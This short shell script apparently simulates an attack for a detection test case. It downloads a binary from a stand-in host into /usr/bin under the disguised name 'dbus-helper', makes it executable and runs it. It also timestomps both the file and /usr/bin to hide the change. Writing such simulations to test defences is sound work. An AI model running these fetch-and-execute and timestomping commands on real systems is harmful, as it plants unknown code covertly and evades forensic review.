#!/bin/sh
. /opt/case/case.sh

curl -s -o /usr/bin/dbus-helper http://203.0.113.10/programs/marker; chmod 755 /usr/bin/dbus-helper; touch -r /bin/sh /usr/bin/dbus-helper; touch -r /etc/hostname /usr/bin
test "$(stat -L -c %Y /usr/bin/dbus-helper)" = "$(stat -L -c %Y /bin/sh)"
/usr/bin/dbus-helper
took_place
